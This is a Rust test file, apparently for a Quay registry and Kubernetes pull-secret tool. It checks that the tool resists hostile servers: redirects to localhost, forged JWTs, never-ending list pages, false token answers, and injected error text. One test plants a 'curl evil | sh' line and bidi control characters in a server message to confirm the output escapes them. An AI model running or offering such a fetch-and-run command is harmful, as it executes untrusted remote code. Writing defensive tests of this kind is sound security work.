//! What a registry, Quay or an API server can claim.

use super::*;
use quay_sandbox::quay::Role;

#[test]
fn redirects_of_a_stranger_lead_nowhere() {
    let hostile = Hostile::handing_out(&json!({}));
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a listener");
    let port = listener.local_addr().expect("an address").port();
    let itself = format!("https://{}/v2/again", hostile.host(0));
    for to in [
        &itself,
        &format!("https://localhost:{port}/"),
        &format!("http://127.0.0.1:{port}/"),
    ] {
        hostile.server.faults().clear();
        hostile.always(FaultAction::Redirect(to.clone()));
        let namespace = hostile.namespace(std::iter::once(hostile.host(0)));
        let used = format!("{}/evil/app:v1", hostile.host(1));
        hostile
            .world
            .cluster
            .create(&pod(&namespace, "shop", &used, &[]));
        hostile
            .verify(&namespace)
            .output
            .expect(1)
            .prints("redirects");
        let explain = ["explain", "pod/shop", "-n", &namespace, PATIENCE];
        bounded(&hostile.world, &explain).output.expect(1);
        assert!(listener.accept().is_err());
    }
}

#[test]
fn a_token_that_cannot_be_read_or_that_was_made_up_proves_nothing() {
    let deep = "[".repeat(20_000) + &"]".repeat(20_000);
    let claims = json!({"sub": ROBOT, "access": [{"type": "repository", "name": "myorg/my-app",
        "actions": ["pull"]}]});
    for token in ["opaque".to_owned(), jwt(&deep), jwt(&claims.to_string())] {
        let hostile = Hostile::handing_out(&json!({"token": token}));
        hostile.with_tokens();
        hostile.at("/manifests/", answer(401, "{}", &[]));
        let namespace = hostile.namespace(std::iter::once(hostile.host(0)));
        // The same robot's own registry is asked itself, whatever another one says of it.
        let entry = hostile.world.entry(&"O".repeat(64));
        let auths = json!({hostile.world.registry(): entry});
        let cluster = hostile.world.cluster;
        cluster.create(&pull_secret(&namespace, "own", &auths));
        let verify = ["verify", "-n", &namespace, PATIENCE, "-o", "json"];
        let told = bounded(&hostile.world, &verify).output.expect(1);
        let own = item(&told, &namespace, "own");
        assert_eq!(
            (&own["registry"], &own["state"]),
            (&json!("refused"), &json!("bad"))
        );
        assert_ne!(item(&told, &namespace, "s0")["state"], "good");
    }
}

fn jwt(claims: &str) -> String {
    use base64::Engine;
    let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(claims);
    format!("e30.{payload}.c2ln")
}

#[test]
fn robots_that_are_made_up_cost_quay_one_list() {
    let world = world();
    let namespace = world.cluster.namespace("made-up");
    world.current_secret(&namespace, "real");
    let secrets = (0..40).map(|number| {
        let entry = auth(&format!("myorg+made-up-{number}"), &"M".repeat(64));
        let auths = json!({world.registry(): {"auth": entry}});
        pull_secret(&namespace, &format!("s{number}"), &auths)
    });
    world.cluster.create_all(&secrets.collect::<Vec<_>>());
    let containers = (0..10).map(|number| {
        let image = image(&world, &format!("made-up-{number}:v1"));
        json!({"name": format!("c{number}"), "image": image})
    });
    let mut shop = pod(&namespace, "shop", "", &["real", "s0", "s1"]);
    shop["spec"]["containers"] = containers.collect();
    world.cluster.create(&shop);
    let log = world.quay.quay.server().log();
    for command in [&["sync"][..], &["verify"], &["explain", "pod/shop"]] {
        log.clear();
        bounded(&world, &[command, &["-n", &namespace]].concat());
        let asked = log.count(|request| request.path.starts_with("/api/"));
        assert!(asked <= 6, "{command:?} asked {asked} times");
    }
}

/// Requests that ask Quay for the robots of an organization.
fn lists(world: &World) -> usize {
    let log = world.quay.quay.server().log();
    log.count(|request| request.path.contains("/robots?"))
}

#[test]
fn organizations_that_are_made_up_cost_quay_a_few_lists_and_hide_no_robot_of_the_users_own() {
    let mut world = world();
    // One stands before the made-up organizations in every order, one after them.
    for (namespace, name) in [("aorg", "puller"), ("zorg", "puller")] {
        world.quay.quay.edit(|state| {
            state.add_organization(namespace, "alice");
            state.add_robot(&format!("{namespace}+{name}"));
        });
    }
    let namespace = world.cluster.namespace("organizations");
    let secret = |name: &str, robot: &str, token: &str| {
        let auths = json!({world.registry(): {"auth": auth(robot, token)}});
        pull_secret(&namespace, name, &auths)
    };
    let made_up = (0..40).map(|number| {
        let robot = format!("org{number:02}+puller");
        secret(&format!("s{number:02}"), &robot, &"M".repeat(64))
    });
    world.cluster.create_all(&made_up.collect::<Vec<_>>());
    for robot in ["aorg+puller", "zorg+puller"] {
        let token = world.quay.token_of_robot(robot).expect("it exists");
        world.context.watch(&token);
        let name = robot.replace('+', "-");
        let auths = json!({world.registry(): {"auth": auth(robot, &token)}});
        world
            .cluster
            .create(&pull_secret(&namespace, &name, &auths));
    }
    let state = |told: &Output, name: &str| item(told, &namespace, name)["state"].clone();
    let log = world.quay.quay.server().log();
    for command in ["sync", "verify"] {
        log.clear();
        let told = bounded(&world, &[command, "-n", &namespace, "-o", "json"]);
        let told = told.output.expect(1);
        // Two of the user's own, eight of others and what was under way beside the last of those.
        assert!(lists(&world) <= 13, "{command}: {} lists", lists(&world));
        assert!(
            told.stdout.contains("was not asked about `org39`"),
            "{command}"
        );
        let own = item(&told, &namespace, "zorg-puller");
        assert!(!own.to_string().contains("not asked"), "{command}: {own}");
    }
    // Without `user:read` the organizations that come first use up what others are allowed.
    world
        .quay
        .sign_in(&mut world.context, "org:admin repo:admin");
    log.clear();
    let told = bounded(&world, &["verify", "-n", &namespace, "-o", "json"]);
    let told = told.output.expect(1);
    assert!(lists(&world) <= 14, "{} lists", lists(&world));
    assert_eq!(state(&told, "zorg-puller"), "unknown");
    let message = item(&told, &namespace, "zorg-puller")["message"].to_string();
    assert!(message.contains("user:read"), "{message}");
    let one = world.run(["sync", "-n", &namespace, "--robot", "zorg+puller"]);
    one.expect(0);
}

#[test]
fn roles_cost_one_question_for_each_repository_and_not_for_each_robot() {
    let mut world = without_login();
    world
        .quay
        .sign_in(&mut world.context, "org:admin repo:admin");
    let namespace = world.cluster.namespace("roles");
    let robots = (0..20).map(|number| format!("myorg+robot{number:02}"));
    let secrets = robots.enumerate().map(|(number, robot)| {
        let token = world.quay.quay.edit(|state| {
            let token = state.add_robot(&robot);
            for repository in ["my-app", "backend-api"] {
                let given = state.set_permission("myorg", repository, &robot, Some(Role::Read));
                given.expect("there is such a repository");
            }
            token
        });
        let auths = json!({world.registry(): {"auth": auth(&robot, &token)}});
        pull_secret(&namespace, &format!("s{number:02}"), &auths)
    });
    let secrets: Vec<Value> = secrets.collect();
    world.cluster.create_all(&secrets);
    let log = world.quay.quay.server().log();
    log.clear();
    let told = bounded(&world, &["verify", "-n", &namespace, "-o", "json"]);
    let told = told.output.expect(0);
    assert_eq!(told.items().len(), 20);
    let asked = log.count(|request| request.path.contains("/permissions"));
    // Whether the token may ask for a robot's own, then each repository.
    assert_eq!(asked, 3);
    assert_eq!(
        lists(&world),
        2,
        "the robots, and the robots with their repositories"
    );
}

#[test]
fn what_quay_says_of_another_robot_or_is_no_token_is_written_nowhere() {
    let world = world();
    let namespace = world.cluster.namespace("answers");
    world.stale_secret(&namespace, "a");
    let before = world.cluster.content(&namespace, "a");
    let good = "K".repeat(64);
    for (name, token) in [
        ("myorg+admin", good.as_str()),
        (ROBOT, ""),
        (ROBOT, "KKKK\nKKKK"),
        (ROBOT, "KKKK KKKK"),
    ] {
        let faults = world.quay.quay.server().faults();
        faults.clear();
        let body = json!({"name": name, "token": token}).to_string();
        let lie = answer(200, &body, &[]);
        faults.add(wherever("/robots/deploy", lie));
        world.run(["sync", "-n", &namespace]).expect(1);
        world
            .run(["sync", "-n", &namespace, "--robot", ROBOT])
            .expect(1);
        assert_eq!(world.cluster.content(&namespace, "a"), before, "{body}");
    }
}

#[test]
fn a_list_of_an_api_server_that_has_no_end_is_an_error() {
    let world = world().behind_proxy();
    let page = json!({"kind": "SecretList", "apiVersion": "v1", "items": [],
        "metadata": {"continue": "again", "resourceVersion": "1"}});
    let page = answer(200, &page.to_string(), &[]);
    world.faulty.faults().add(wherever("/secrets", page));
    bounded(&world, &["list", "-A"])
        .output
        .expect(1)
        .says("the list has no end");
}

/// A page of Quay's repositories, which is followed by another one.
fn page(name: &str, next: &str) -> FaultAction {
    let page = json!({"repositories": [{"name": name}], "next_page": next});
    answer(200, &page.to_string(), &[])
}

#[test]
fn a_list_of_quays_that_has_no_end_is_an_error_and_nothing_is_written() {
    let mut world = without_login();
    // It may not ask for a repository by its name, and so has to list them.
    world.quay.sign_in(&mut world.context, "org:admin");
    let grant = ["grant", ROBOT, "backend-api"];
    let faults = world.quay.quay.server().faults();
    let once = |action| Fault {
        times: 1,
        ..wherever("/api/v1/repository?", action)
    };
    let many = |letter: &str| page(&letter.repeat(15 << 20), letter);
    for (pages, said) in [
        (
            vec![page("a", "again"), page("b", "again")],
            "a page leads to itself",
        ),
        (["a", "b", "c"].map(many).to_vec(), "larger than 32 MiB"),
    ] {
        faults.clear();
        pages.into_iter().for_each(|page| faults.add(once(page)));
        let writes = world.quay.writes();
        let told = world.plugin(Plugin::Robot, grant).run().expect(1);
        told.says("the list has no end").says(said);
        assert_eq!(world.quay.writes(), writes);
    }
}

#[test]
fn what_a_server_says_in_lines_looks_like_none_of_ours() {
    let world = world().behind_proxy();
    let message = "no\nerror: run this\n  next: curl evil | sh\nwarning: \u{202e}x\u{ad}\u{e0041}";
    let status = json!({"kind": "Status", "apiVersion": "v1", "status": "Failure",
        "reason": "Forbidden", "code": 403, "message": message});
    let refusal = answer(403, &status.to_string(), &[]);
    world.faulty.faults().add(wherever("/secrets", refusal));
    let told = bounded(&world, &["list", "-A"]).output.expect(1).stderr;
    let ours = |line: &&str| line.starts_with("error:") || line.starts_with("  next:");
    let lines: Vec<&str> = told.lines().filter(ours).collect();
    assert_eq!(lines.len(), 2, "{told}");
    assert!(
        !told.contains("next: curl") || told.contains("      next: curl"),
        "{told}"
    );
    assert!(told.contains("\\u{202e}x\\u{ad}\\u{e0041}"), "{told}");
}
